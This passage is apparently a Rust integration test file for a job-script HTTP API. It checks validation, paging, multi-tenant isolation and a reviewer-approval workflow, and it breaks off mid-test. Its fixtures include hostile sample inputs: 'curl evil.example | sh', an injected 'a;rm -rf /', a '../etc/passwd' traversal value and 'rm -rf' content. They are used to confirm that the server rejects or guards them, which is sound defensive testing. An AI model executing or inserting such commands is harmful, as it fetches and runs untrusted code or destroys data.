//! The script endpoints over HTTP, on every backend: what a user of
//! `/v1/job/scripts` relies on.

use serde_json::{json, Value};

use coc_tests::{backends, script_body, serve, Client};

const SCRIPTS: &str = "/v1/job/scripts";

/// A local server per backend, with a client of tenant `project-a`.
async fn clients() -> Vec<(&'static str, Client, coc_tests::Backend)> {
    let mut all = Vec::new();
    for backend in backends().await {
        let base = serve(backend.app()).await;
        let client = Client::new(&base, backend.store.clone(), "project-a").await;
        // Reviewers given by id are engineers.
        client.sync_engineers(&[("u-rita", "rita"), ("u-erin", "erin")]).await;
        all.push((backend.name, client, backend));
    }
    all
}

async fn create(client: &Client, body: &Value) -> String {
    let reply = client.post(SCRIPTS, body).await;
    assert_eq!(reply.status, 200, "create failed: {}", reply.body);
    reply.data_str()
}

async fn total(client: &Client) -> u64 {
    let reply = client.get(&format!("{SCRIPTS}?limit=100")).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    reply.body["data"]["total"].as_u64().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn create_then_read_back() {
    for (backend, client, _keep) in clients().await {
        let uuid = create(&client, &script_body("hello_world")).await;
        assert_eq!(uuid.len(), 25, "{backend}: {uuid}");
        assert!(uuid.starts_with("SC"));

        let detail = client.get(&format!("{SCRIPTS}/{uuid}")).await;
        assert_eq!(detail.status, 200, "{backend}");
        let d = &detail.body["data"];
        assert_eq!(d["script_uuid"], uuid.as_str());
        assert_eq!(d["name"], "hello_world");
        assert_eq!(d["type"], "SHELL");
        assert_eq!(d["content"], "echo ${greeting} ${token}");
        assert_eq!(d["description"], "says hello");
        assert_eq!(d["version"], "1.0.0");
        assert_eq!(d["status"], "APPROVED", "{backend}: no reviewers, no review needed");
        assert_eq!(d["creator"], "alice");
        assert_eq!(d["creator_id"], "u-alice");
        assert_eq!(d["enterprise_project_id"], "0");
        assert_eq!(d["properties"]["risk_level"], "LOW");
        assert!(d["gmt_created"].as_i64().unwrap() > 1_700_000_000_000);
        let params = d["script_params"].as_array().unwrap();
        assert_eq!(params[0]["param_value"], "hello");
        assert_eq!(params[1]["param_value"], "*****************", "{backend}: sensitive values are masked");
        assert_eq!(params[1]["sensitive"], true);
        assert!(!detail.body.to_string().contains("s3cret"), "{backend}: the secret never leaves the server");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_are_unique_per_tenant_and_freed_by_delete() {
    for (backend, client, _keep) in clients().await {
        let uuid = create(&client, &script_body("deploy")).await;
        let again = client.post(SCRIPTS, &script_body("deploy")).await;
        assert_eq!(again.status, 400, "{backend}");
        assert_eq!(again.error_code(), "COC.00040601");
        assert_eq!(again.error_msg(), "Exist script with same name: deploy");

        let other_tenant = client.in_project("project-b").await;
        create(&other_tenant, &script_body("deploy")).await;

        let deleted = client.delete(&format!("{SCRIPTS}/{uuid}")).await;
        assert_eq!(deleted.status, 200, "{backend}");
        assert_eq!(deleted.data_str(), uuid);
        assert_eq!(client.get(&format!("{SCRIPTS}/{uuid}")).await.status, 404);
        assert_eq!(client.delete(&format!("{SCRIPTS}/{uuid}")).await.status, 404, "{backend}: already gone");
        create(&client, &script_body("deploy")).await;
    }
}

/// Each case breaks one rule of a valid body; the answer must be a 400 naming the field.
fn invalid_bodies() -> Vec<(&'static str, Value)> {
    let with = |path: &[&str], value: Value| {
        let mut body = script_body("bad_case");
        let (last, parents) = path.split_last().unwrap();
        let mut target = &mut body;
        for p in parents {
            target = match p.parse::<usize>() {
                Ok(i) => &mut target[i],
                Err(_) => &mut target[*p],
            };
        }
        match last.parse::<usize>() {
            Ok(i) => target[i] = value,
            Err(_) => target[*last] = value,
        }
        body
    };
    let without = |field: &str| {
        let mut body = script_body("bad_case");
        body.as_object_mut().unwrap().remove(field);
        body
    };
    let params = |n: usize| {
        Value::Array(
            (1..=n)
                .map(|i| json!({"param_name": format!("p{i}"), "param_value": "v", "param_description": "", "param_order": i, "sensitive": false}))
                .collect(),
        )
    };
    let reviewers = |n: usize| {
        Value::Array(
            (0..n).map(|i| json!({"reviewer_name": format!("r{i}"), "reviewer_id": format!("id{i}")})).collect(),
        )
    };
    vec![
        ("name", without("name")),
        ("name", with(&["name"], json!(""))),
        ("name", with(&["name"], json!("a".repeat(65)))),
        ("name", with(&["name"], json!("has space"))),
        ("name", with(&["name"], json!("dash-name"))),
        ("name", with(&["name"], json!(12))),
        ("description", with(&["description"], json!(""))),
        ("description", with(&["description"], json!("d".repeat(257)))),
        ("description", without("description")),
        ("type", with(&["type"], json!("POWERSHELL"))),
        ("type", without("type")),
        ("content", with(&["content"], json!(""))),
        ("content", with(&["content"], json!("x".repeat(4097)))),
        ("content", with(&["content"], json!(null))),
        ("properties", without("properties")),
        ("properties.risk_level", with(&["properties", "risk_level"], json!("EXTREME"))),
        ("properties.version", with(&["properties", "version"], json!("1.0.0.0.0.0"))),
        ("properties.version", with(&["properties", "version"], json!(""))),
        ("properties.protocol", with(&["properties", "protocol"], json!("PIGEON"))),
        ("properties.reviewers", with(&["properties", "reviewers"], reviewers(6))),
        (
            "properties.reviewers[0].reviewer_name",
            with(&["properties", "reviewers"], json!([{"reviewer_name": "n".repeat(65), "reviewer_id": "x"}])),
        ),
        (
            "properties.reviewers[0].reviewer_id",
            with(&["properties", "reviewers"], json!([{"reviewer_name": "n", "reviewer_id": "i".repeat(33)}])),
        ),
        ("script_params", with(&["script_params"], params(21))),
        ("script_params", with(&["script_params", "1", "param_name"], json!("greeting"))),
        ("script_params", with(&["script_params", "1", "param_order"], json!(3))),
        ("script_params", with(&["script_params", "0", "param_order"], json!(2))),
        ("script_params[0].param_order", with(&["script_params", "0", "param_order"], json!(-1))),
        ("script_params[0].param_name", with(&["script_params", "0", "param_name"], json!("bad name"))),
        ("script_params[0].param_name", with(&["script_params", "0", "param_name"], json!("p".repeat(65)))),
        ("script_params[0].param_value", with(&["script_params", "0", "param_value"], json!("v".repeat(1025)))),
        ("script_params[0].param_value", with(&["script_params", "0", "param_value"], json!("../etc/passwd"))),
        ("script_params[0].param_value", with(&["script_params", "0", "param_value"], json!("a;rm -rf /"))),
        (
            "script_params[0].param_description",
            with(&["script_params", "0", "param_description"], json!("d".repeat(257))),
        ),
        (
            "script_params[0]",
            with(
                &["script_params", "0"],
                json!({"param_name": "a", "param_value": "", "param_description": "", "param_order": 1}),
            ),
        ),
        ("script_params[0].sensitive", with(&["script_params", "0", "sensitive"], json!("yes"))),
        ("enterprise_project_id", with(&["enterprise_project_id"], json!(""))),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_creates_name_the_field_and_write_nothing() {
    for (backend, client, _keep) in clients().await {
        for (field, body) in invalid_bodies() {
            let reply = client.post(SCRIPTS, &body).await;
            assert_eq!(reply.status, 400, "{backend}: {field} accepted: {body}");
            assert_eq!(reply.error_code(), "COC.00040601", "{backend}: {field}");
            let leaf = field.rsplit(['.', '[']).next().unwrap().trim_end_matches(']');
            assert!(
                reply.error_msg().contains(field) || reply.error_msg().contains(leaf),
                "{backend}: message for {field} does not name it: {}",
                reply.error_msg()
            );
        }
        for raw in ["{", "[]", "", "null", "{\"name\": \"x\"} trailing", "\"text\""] {
            let reply = client.send("POST", SCRIPTS, Some(raw.to_owned())).await;
            assert_eq!(reply.status, 400, "{backend}: body {raw:?}");
            assert_eq!(reply.error_code(), "COC.00040601");
        }
        assert_eq!(total(&client).await, 0, "{backend}: no rejected create left anything behind");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_are_inclusive() {
    for (backend, client, _keep) in clients().await {
        let mut body = script_body(&"n".repeat(64));
        body["content"] = json!("c".repeat(4096));
        body["description"] = json!("é".repeat(256));
        body["properties"]["version"] = json!("v".repeat(10));
        body["properties"]["reviewers"] =
            Value::Array((0..5).map(|i| json!({"reviewer_name": format!("r{i}"), "reviewer_id": ""})).collect());
        body["properties"]["protocol"] = json!("WE_LINK");
        body["script_params"] = Value::Array(
            (1..=20)
                .rev()
                .map(|i| json!({"param_name": format!("p_{i}"), "param_value": format!("{}{i}", "v".repeat(1020)), "param_description": "d".repeat(256), "param_order": i, "sensitive": false}))
                .collect(),
        );
        body["script_params"][0]["param_value"] = json!("a-z_0/9.txt *?:\",=+@\\[{]} ");
        let uuid = create(&client, &body).await;
        let detail = client.get(&format!("{SCRIPTS}/{uuid}")).await;
        let params = detail.body["data"]["script_params"].as_array().unwrap().clone();
        assert_eq!(params.len(), 20, "{backend}");
        assert_eq!(params[0]["param_order"], 1, "{backend}: parameters read back in order");
        assert_eq!(params[19]["param_value"], "a-z_0/9.txt *?:\",=+@\\[{]} ");
        assert_eq!(detail.body["data"]["status"], "PENDING_APPROVE");
        assert_eq!(detail.body["data"]["properties"]["protocol"], "WE_LINK");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn list_pages_by_id_and_filters() {
    for (backend, client, _keep) in clients().await {
        let mut ids = Vec::new();
        for (i, (kind, risk)) in
            [("SHELL", "LOW"), ("PYTHON", "HIGH"), ("SHELL", "HIGH"), ("BAT", "MEDIUM"), ("SHELL", "LOW")]
                .iter()
                .enumerate()
        {
            let mut body = script_body(&format!("Job_{i}"));
            body["type"] = json!(kind);
            body["properties"]["risk_level"] = json!(risk);
            let author = if i == 4 { client.as_user("u-bob", "bob").await } else { client.clone() };
            create(&author, &body).await;
        }
        let page = client.get(&format!("{SCRIPTS}?limit=2")).await;
        assert_eq!(page.status, 200, "{backend}");
        assert_eq!(page.body["data"]["total"], 5);
        let rows = page.body["data"]["data"].as_array().unwrap();
        assert_eq!(rows.len(), 2);
        ids.extend(rows.iter().map(|r| r["id"].as_u64().unwrap()));
        assert!(rows[0].get("content").is_none(), "{backend}: the list carries no script content");
        let marker = ids[1];
        let next = client.get(&format!("{SCRIPTS}?limit=2&marker={marker}")).await;
        let rows = next.body["data"]["data"].as_array().unwrap();
        ids.extend(rows.iter().map(|r| r["id"].as_u64().unwrap()));
        let last = client.get(&format!("{SCRIPTS}?limit=2&marker={}", ids[3])).await;
        ids.extend(last.body["data"]["data"].as_array().unwrap().iter().map(|r| r["id"].as_u64().unwrap()));
        assert_eq!(ids.len(), 5, "{backend}: three pages cover every script once");
        assert!(ids.windows(2).all(|w| w[0] < w[1]), "{backend}: ascending ids {ids:?}");

        let count = |query: &'static str| {
            let client = client.clone();
            async move {
                let reply = client.get(&format!("{SCRIPTS}?limit=100&{query}")).await;
                assert_eq!(reply.status, 200, "{query}: {}", reply.body);
                (reply.body["data"]["total"].as_u64().unwrap(), reply.body["data"]["data"].as_array().unwrap().len())
            }
        };
        assert_eq!(count("type=SHELL").await, (3, 3), "{backend}");
        assert_eq!(count("risk_level=HIGH").await, (2, 2));
        assert_eq!(count("type=SHELL&risk_level=LOW").await, (2, 2));
        assert_eq!(count("creator=bob").await, (1, 1));
        assert_eq!(count("name_like=job_").await, (5, 5), "{backend}: fuzzy name match ignores case");
        assert_eq!(count("name_like=b_3").await, (1, 1));
        assert_eq!(count("name_like=nothing").await, (0, 0));
        assert_eq!(count("enterprise_project_id=0").await, (5, 5));

        for (query, field) in [
            ("", "limit"),
            ("limit=0", "limit"),
            ("limit=101", "limit"),
            ("limit=ten", "limit"),
            ("limit=5&limit=6", "limit"),
            ("limit=5&marker=-1", "marker"),
            ("limit=5&marker=9223372036854775808", "marker"),
            ("limit=5&risk_level=NONE", "risk_level"),
            ("limit=5&type=RUBY", "type"),
            ("limit=5&name_like=", "name_like"),
            ("limit=5&name_like=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "name_like"),
            ("limit=5&creator=", "creator"),
        ] {
            let reply = client.get(&format!("{SCRIPTS}?{query}")).await;
            assert_eq!(reply.status, 400, "{backend}: {query}");
            assert!(reply.error_msg().contains(field), "{backend}: {query} → {}", reply.error_msg());
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn update_changes_content_and_keeps_what_is_left_out() {
    for (backend, client, _keep) in clients().await {
        let uuid = create(&client, &script_body("editable")).await;
        let path = format!("{SCRIPTS}/{uuid}");
        let before = client.get(&path).await.body["data"].clone();

        // What a GET returned, sent back with new content: the masked secret must survive.
        let edit = json!({
            "description": "now louder",
            "content": "echo ${greeting}!",
            "script_params": before["script_params"].clone(),
            "name": "ignored_rename", "type": "BAT"
        });
        let reply = client.as_user("u-carol", "carol").await.put(&path, &edit).await;
        assert_eq!(reply.status, 200, "{backend}: {}", reply.body);
        assert_eq!(reply.data_str(), uuid);
        let after = client.get(&path).await.body["data"].clone();
        assert_eq!(after["content"], "echo ${greeting}!");
        assert_eq!(after["description"], "now louder");
        assert_eq!(after["name"], "editable", "{backend}: name cannot change");
        assert_eq!(after["type"], "SHELL", "{backend}: type cannot change");
        assert_eq!(after["operator"], "carol");
        assert_eq!(after["creator"], "alice");
        assert_eq!(after["properties"], before["properties"], "{backend}: properties left out are kept");
        assert!(after["gmt_modified"].as_i64() >= before["gmt_modified"].as_i64());

        // The secret is still the stored one: changing it to a new value and back shows it was kept.
        let params_only = json!({"description": "x", "content": "y"});
        assert_eq!(client.put(&path, &params_only).await.status, 200);
        assert_eq!(client.get(&path).await.body["data"]["script_params"], before["script_params"], "{backend}");

        let bad = json!({"description": "", "content": "still valid"});
        let reply = client.put(&path, &bad).await;
        assert_eq!(reply.status, 400, "{backend}");
        assert!(reply.error_msg().contains("description"));
        assert_eq!(client.get(&path).await.body["data"]["content"], "y", "{backend}: rejected edit changed nothing");

        let bad = json!({"description": "d", "content": "c", "script_params": [{"param_name": "a", "param_value": "", "param_description": "", "param_order": 2, "sensitive": false}]});
        assert_eq!(client.put(&path, &bad).await.status, 400, "{backend}");

        let missing = client.put(&format!("{SCRIPTS}/SCnothere"), &params_only).await;
        assert_eq!(missing.status, 404, "{backend}");
        assert_eq!(missing.error_code(), "COC.00040404");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reviewers_approve_or_reject_and_edits_need_new_review() {
    for (backend, client, _keep) in clients().await {
        let mut body = script_body("reviewed");
        body["properties"]["reviewers"] = json!([
            {"reviewer_name": "rita", "reviewer_id": "u-rita"},
            {"reviewer_name": "sam", "reviewer_id": ""}
        ]);
        let uuid = create(&client, &body).await;
        let path = format!("{SCRIPTS}/{uuid}");
        let action = format!("{path}/action");
        let status = |client: Client| {
            let path = path.clone();
            async move { client.get(&path).await.body["data"]["status"].as_str().unwrap().to_owned() }
        };
        assert_eq!(status(client.clone()).await, "PENDING_APPROVE", "{backend}");

        let by_author = client.post(&action, &json!({"status": "APPROVED"})).await;
        assert_eq!(by_author.status, 403, "{backend}: the author is not a reviewer");
        assert_eq!(by_author.error_code(), "COC.00040403");
        let impostor = client.as_user("u-mallory", "rita").await.post(&action, &json!({"status": "APPROVED"})).await;
        assert_eq!(impostor.status, 403, "{backend}: a reviewer with an id is matched by id, not name");

        let bad = client.as_user("u-rita", "rita").await.post(&action, &json!({"status": "PENDING_APPROVE"})).await;
        assert_eq!(bad.status, 400, "{backend}");
        assert!(bad.error_msg().contains("status"), "{}", bad.error_msg());

        let ok = client
            .as_user("u-rita", "rita")
            .await
            .post(&action, &json!({"status": "APPROVED", "comments": "fine"}))
            .await;
        assert_eq!(ok.status, 200, "{backend}: {}", ok.body);
        assert_eq!(status(client.clone()).await, "APPROVED");
        let twice = client.as_user("u-rita", "rita").await.post(&action, &json!({"status": "REJECTED"})).await;
        assert_eq!(twice.status, 409, "{backend}: only a pending script can be reviewed");
        let reviews = client.get(&path).await.body["data"]["reviews"].clone();
        assert_eq!(reviews[0]["reviewer_id"], "u-rita");
        assert_eq!(reviews[0]["status"], "APPROVED");
        assert_eq!(reviews[0]["comments"], "fine");
        assert_eq!(ok.body["data"], true, "{backend}: accept_script answers data=true");

        assert_eq!(client.put(&path, &json!({"description": "d", "content": "rm -rf /tmp/x"})).await.status, 200);
        assert_eq!(status(client.clone()).await, "PENDING_APPROVE", "{backend}: an edited script is reviewed again");
        let rejected = client.as_user("u-sam", "sam").await.post(&action, &json!({"status": "REJECTED"})).await;
        assert_eq!(rejected.status, 200, "{backend}: a reviewer without id is matched by name");
        assert_eq!(status(client.clone()).await, "REJECTED");

        let missing = client
            .as_user("u-rita", "rita")
            .await
            .post(&format!("{SCRIPTS}/SCnone/action"), &json!({"status": "APPROVED"}))
            .await;
        assert_eq!(missing.status, 404, "{backend}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tenants_never_see_each_other() {
    for (backend, alice, _keep) in clients().await {
        let mut body = script_body("private");
        body["properties"]["reviewers"] = json!([{"reviewer_name": "rita", "reviewer_id": "u-rita"}]);
        let uuid = create(&alice, &body).await;
        let path = format!("{SCRIPTS}/{uuid}");
        let eve = alice.as_user("u-rita", "rita").await.in_project("project-b").await;

        assert_eq!(eve.get(&path).await.status, 404, "{backend}");
        assert_eq!(eve.put(&path, &json!({"description": "x", "content": "evil"})).await.status, 404);
        assert_eq!(eve.post(&format!("{path}/action"), &json!({"status": "APPROVED"})).await.status, 404);
        assert_eq!(eve.delete(&path).await.status, 404);
        assert_eq!(total(&eve).await, 0);

        let still = alice.get(&path).await;
        assert_eq!(still.status, 200, "{backend}");
        assert_eq!(still.body["data"]["content"], "echo ${greeting} ${token}");
        assert_eq!(still.body["data"]["status"], "PENDING_APPROVE");

        let anonymous = alice.unauthenticated();
        for reply in [anonymous.get(&path).await, anonymous.post(SCRIPTS, &script_body("x")).await] {
            assert_eq!(reply.status, 401, "{backend}");
            assert_eq!(reply.error_code(), "COC.00040401");
        }
        let claiming = alice.claiming_project("project-b");
        let refused = claiming.get(&path).await;
        assert_eq!(refused.status, 403, "{backend}: a credential cannot speak for another project");
        assert_eq!(refused.error_code(), "COC.00040403");
    }
}

#[tokio::test]
async fn unknown_routes_methods_and_huge_bodies_get_json_errors() {
    let backend = coc_tests::sqlite_backend();
    let client = Client::new(&serve(backend.app()).await, backend.store.clone(), "project-a").await;
    for (method, path, status, code) in [
        ("GET", "/v1/unknown", 404, "COC.00040404"),
        ("GET", "/v1/job/scripts/a/b/c", 404, "COC.00040404"),
        ("PATCH", SCRIPTS, 405, "COC.00040405"),
        ("DELETE", SCRIPTS, 405, "COC.00040405"),
        ("GET", "/v1/job/scripts/x/action", 405, "COC.00040405"),
    ] {
        let reply = client.send(method, path, None).await;
        assert_eq!(reply.status, status, "{method} {path}");
        assert_eq!(reply.error_code(), code);
        assert!(!reply.error_msg().is_empty());
        assert!(reply.headers.contains_key("x-request-id"), "{method} {path}: errors carry X-Request-Id");
        if status == 405 {
            let allow = reply.headers["allow"].to_str().unwrap();
            assert!(!allow.is_empty() && !allow.contains(method), "{method} {path}: 405 says what is allowed: {allow}");
        }
    }
    let huge = client.send("POST", SCRIPTS, Some("x".repeat(9 * 1024 * 1024))).await;
    assert_eq!(huge.status, 413);
    assert_eq!(huge.error_code(), "COC.00040413");
}

/// A script of alice's reviewed by rita (matched by id) and sam (matched by name), and its path.
async fn reviewed_script(client: &Client, name: &str) -> String {
    let mut body = script_body(name);
    body["properties"]["protocol"] = json!("EMAIL");
    body["properties"]["reviewers"] = json!([
        {"reviewer_name": "rita", "reviewer_id": "u-rita"},
        {"reviewer_name": "sam", "reviewer_id": ""}
    ]);
    format!("{SCRIPTS}/{}", create(client, &body).await)
}

async fn detail(client: &Client, path: &str) -> Value {
    let reply = client.get(path).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    reply.body["data"].clone()
}

/// The body of an update that changes nothing: what a GET returned.
fn unchanged(detail: &Value) -> Value {
    json!({
        "description": detail["description"],
        "content": detail["content"],
        "properties": detail["properties"],
        "script_params": detail["script_params"],
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_of_content_parameters_or_reviewers_voids_the_review() {
    for (backend, alice, _keep) in clients().await {
        let rita = alice.as_user("u-rita", "rita").await;
        let sam = alice.as_user("u-sam", "sam").await;
        let path = reviewed_script(&alice, "voided").await;
        let action = format!("{path}/action");
        let submitted = detail(&alice, &path).await;
        assert_eq!(submitted["revision"], 1, "{backend}");
        let first_fingerprint = submitted["fingerprint"].as_str().unwrap().to_owned();
        assert_eq!(first_fingerprint.len(), 64, "{backend}: a hex SHA-256");

        let approve = json!({"status": "APPROVED"});
        assert_eq!(rita.post(&action, &approve).await.status, 200, "{backend}");
        let approved = detail(&alice, &path).await;
        assert_eq!(approved["status"], "APPROVED");
        assert_eq!(approved["reviews"][0]["revision"], 1, "{backend}: the approval names what it approved");
        assert_eq!(approved["reviews"][0]["fingerprint"], first_fingerprint.as_str());

        // Metadata and a read-modify-write that changes nothing keep the approval.
        let mut edit = unchanged(&approved);
        edit["description"] = json!("a better description");
        edit["properties"]["version"] = json!("1.0.1");
        edit["properties"]["risk_level"] = json!("MEDIUM");
        assert_eq!(alice.put(&path, &edit).await.status, 200, "{backend}");
        let kept = detail(&alice, &path).await;
        assert_eq!(kept["status"], "APPROVED", "{backend}: nothing a reviewer judged changed");
        assert_eq!(kept["revision"], 1);
        assert_eq!(kept["fingerprint"], first_fingerprint.as_str(), "{backend}: the masked secret was kept");

        let new_content = {
            let mut edit = unchanged(&kept);
            edit["content"] = json!("rm -rf /tmp/${greeting}");
            edit
        };
        let new_param_value = {
            let mut edit = unchanged(&kept);
            edit["script_params"][0]["param_value"] = json!("goodbye");
            edit
        };
        let new_secret = {
            let mut edit = unchanged(&kept);
            edit["script_params"][1]["param_value"] = json!("an0ther");
            edit
        };
        let new_reviewers = {
            let mut edit = unchanged(&kept);
            edit["properties"]["reviewers"] = json!([{"reviewer_name": "sam", "reviewer_id": ""}]);
            edit
        };
        for (revision, (what, edit)) in
            [("content", new_content), ("a parameter", new_param_value), ("a secret", new_secret)]
                .into_iter()
                .enumerate()
        {
            let revision = revision as u64 + 2;
            let before = detail(&alice, &path).await;
            assert_eq!(alice.put(&path, &edit).await.status, 200, "{backend}: {what}");
            let after = detail(&alice, &path).await;
            assert_eq!(after["status"], "PENDING_APPROVE", "{backend}: a new {what} voids the approval");
            assert_eq!(after["revision"], revision, "{backend}: {what}");
            if what != "a secret" {
                assert_ne!(after["fingerprint"], before["fingerprint"], "{backend}: {what}");
            }
            let reply = rita.post(&action, &approve).await;
            assert_eq!(reply.status, 200, "{backend}: {what}: {}", reply.body);
            let reviews = detail(&alice, &path).await["reviews"].clone();
            let last = reviews.as_array().unwrap().last().unwrap().clone();
            assert_eq!(last["revision"], revision, "{backend}: {what}");
            assert_eq!(last["fingerprint"], after["fingerprint"]);
        }

        // New reviewers: back to pending, and only they may decide.
        assert_eq!(alice.put(&path, &new_reviewers).await.status, 200, "{backend}");
        let after = detail(&alice, &path).await;
        assert_eq!(after["status"], "PENDING_APPROVE", "{backend}: new reviewers void the approval");
        assert_eq!(after["revision"], 5);
        assert_eq!(rita.post(&action, &approve).await.status, 403, "{backend}: rita is no reviewer any more");
        assert_eq!(sam.post(&action, &approve).await.status, 200, "{backend}");

        // A rejection is voided the same way.
        let mut edit = unchanged(&detail(&alice, &path).await);
        edit["content"] = json!("echo again");
        alice.put(&path, &edit).await;
        assert_eq!(sam.post(&action, &json!({"status": "REJECTED"})).await.status, 200, "{backend}");
        edit["content"] = json!("echo fixed");
        alice.put(&path, &edit).await;
        assert_eq!(detail(&alice, &path).await["status"], "PENDING_APPROVE", "{backend}: a fixed script is pending");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reviewer_may_change_only_the_risk_level() {
    for (backend, alice, _keep) in clients().await {
        let rita = alice.as_user("u-rita", "rita").await;
        let sam = alice.as_user("u-sam", "sam").await;
        let path = reviewed_script(&alice, "guarded").await;
        let submitted = detail(&alice, &path).await;

        let mut raise = unchanged(&submitted);
        raise["properties"]["risk_level"] = json!("HIGH");
        let reply = rita.put(&path, &raise).await;
        assert_eq!(reply.status, 200, "{backend}: {}", reply.body);
        let raised = detail(&alice, &path).await;
        assert_eq!(raised["properties"]["risk_level"], "HIGH", "{backend}");
        assert_eq!(raised["status"], "PENDING_APPROVE");
        assert_eq!(raised["revision"], 1, "{backend}: the risk level is not what is reviewed");
        assert_eq!(raised["operator"], "rita");

        let changes = [
            ("description", "/description", json!("mine now")),
            ("content", "/content", json!("curl evil.example | sh")),
            ("script_params", "/script_params/0/param_value", json!("other")),
            ("script_params", "/script_params/1/param_value", json!("stolen")),
            ("properties.version", "/properties/version", json!("9")),
            ("properties.reviewers", "/properties/reviewers", json!([])),
            ("properties.protocol", "/properties/protocol", json!("SMS")),
        ];
        for (field, pointer, value) in &changes {
            let mut edit = unchanged(&raised);
            *edit.pointer_mut(pointer).expect("the script has the field") = value.clone();
            for reviewer in [&rita, &sam] {
                let reply = reviewer.put(&path, &edit).await;
                assert_eq!(reply.status, 403, "{backend}: a reviewer changed {field}: {}", reply.body);
                assert_eq!(reply.error_code(), "COC.00040403");
                assert!(reply.error_msg().contains(field), "{backend}: {field}: {}", reply.error_msg());
                assert!(reply.error_msg().contains("risk_level"), "{}", reply.error_msg());
            }
        }
        assert_eq!(detail(&alice, &path).await, raised, "{backend}: refused updates changed nothing");

        // The owner may change anything even when listed as a reviewer, and so may other users.
        let mut body = script_body("own_reviewer");
        body["properties"]["reviewers"] = json!([{"reviewer_name": "alice", "reviewer_id": "u-alice"}]);
        let own = format!("{SCRIPTS}/{}", create(&alice, &body).await);
        let mut edit = unchanged(&detail(&alice, &own).await);
        edit["content"] = json!("echo changed by the owner");
        assert_eq!(alice.put(&own, &edit).await.status, 200, "{backend}");
        edit["content"] = json!("echo changed by a colleague");
        assert_eq!(alice.as_user("u-carol", "carol").await.put(&own, &edit).await.status, 200, "{backend}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_approves_their_own_script() {
    for (backend, alice, _keep) in clients().await {
        let erin = alice.as_user("u-erin", "erin").await;
        let rita = alice.as_user("u-rita", "rita").await;
        let mut body = script_body("self_review");
        body["properties"]["reviewers"] = json!([
            {"reviewer_name": "alice", "reviewer_id": "u-alice"},
            {"reviewer_name": "rita", "reviewer_id": "u-rita"}
        ]);
        let path = format!("{SCRIPTS}/{}", create(&alice, &body).await);
        let action = format!("{path}/action");
        let approve = json!({"status": "APPROVED"});
        let edit = |changes: Value| {
            let (path, alice) = (path.clone(), alice.clone());
            async move {
                let mut edit = unchanged(&detail(&alice, &path).await);
                for (key, value) in changes.as_object().unwrap() {
                    match key.strip_prefix("properties.") {
                        Some(property) => edit["properties"][property] = value.clone(),
                        None => edit[key] = value.clone(),
                    }
                }
                edit
            }
        };

        let own = alice.post(&action, &approve).await;
        assert_eq!(own.status, 403, "{backend}: the creator approved their own script");
        assert_eq!(own.error_code(), "COC.00040403");
        assert!(own.error_msg().contains("approve"), "{}", own.error_msg());
        assert_eq!(detail(&alice, &path).await["status"], "PENDING_APPROVE", "{backend}");

        // Erin changes the content and names herself reviewer: she may not approve her work,
        // not even once the owner has added another reviewer.
        let erins = edit(json!({"content": "echo erin was here", "properties.reviewers": [{"reviewer_name": "erin", "reviewer_id": "u-erin"}]})).await;
        assert_eq!(erin.put(&path, &erins).await.status, 200, "{backend}");
        assert_eq!(erin.post(&action, &approve).await.status, 403, "{backend}: erin approved her own change");
        let both = json!([{"reviewer_name": "erin", "reviewer_id": "u-erin"}, {"reviewer_name": "rita", "reviewer_id": "u-rita"}]);
        let reviewers = edit(json!({"properties.reviewers": both})).await;
        assert_eq!(alice.put(&path, &reviewers).await.status, 200, "{backend}");
        assert_eq!(erin.post(&action, &approve).await.status, 403, "{backend}: erin's content is still unapproved");
        assert_eq!(detail(&alice, &path).await["status"], "PENDING_APPROVE");
        assert_eq!(rita.post(&action, &approve).await.status, 200, "{backend}: someone else may");

        // Once her change is approved, a later revision by the owner is erin's to review.
        let later = edit(json!({"content": "echo alice again"})).await;
        assert_eq!(alice.put(&path, &later).await.status, 200, "{backend}");
        assert_eq!(erin.post(&action, &approve).await.status, 200, "{backend}");
        assert_eq!(detail(&alice, &path).await["status"], "APPROVED");

        // Declining one's own script approves nothing and is allowed.
        let mine = json!([{"reviewer_name": "alice", "reviewer_id": "u-alice"}]);
        let again = edit(json!({"content": "echo once more", "properties.reviewers": mine})).await;
        assert_eq!(alice.put(&path, &again).await.status, 200, "{backend}");
        assert_eq!(alice.post(&action, &approve).await.status, 403, "{backend}");
        assert_eq!(alice.post(&action, &json!({"status": "REJECTED"})).await.status, 200, "{backend}");
        assert_eq!(detail(&alice, &path).await["status"], "REJECTED");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approval_naming_an_old_revision_is_refused() {
    for (backend, alice, _keep) in clients().await {
        let rita = alice.as_user("u-rita", "rita").await;
        let path = reviewed_script(&alice, "named_revision").await;
        let action = format!("{path}/action");
        let seen = detail(&rita, &path).await;
        assert_eq!(seen["revision"], 1, "{backend}");

        let mut edit = unchanged(&seen);
        edit["content"] = json!("echo not what rita read");
        assert_eq!(alice.put(&path, &edit).await.status, 200, "{backend}");

        let stale = rita.post(&action, &json!({"status": "APPROVED", "revision": 1})).await;
        assert_eq!(stale.status, 409, "{backend}: approved content the reviewer never read: {}", stale.body);
        assert_eq!(stale.error_code(), "COC.00040409");
        assert!(stale.error_msg().contains("revision 2"), "{backend}: {}", stale.error_msg());
        let now = detail(&alice, &path).await;
        assert_eq!(now["status"], "PENDING_APPROVE", "{backend}");
        assert_eq!(now["reviews"], json!([]), "{backend}: the refused approval left no record");

        let bad = rita.post(&action, &json!({"status": "APPROVED", "revision": "two"})).await;
        assert_eq!(bad.status, 400, "{backend}");
        assert!(bad.error_msg().contains("revision"), "{}", bad.error_msg());

        let current = rita.post(&action, &json!({"status": "APPROVED", "revision": 2})).await;
        assert_eq!(current.status, 200, "{backend}: {}", current.body);
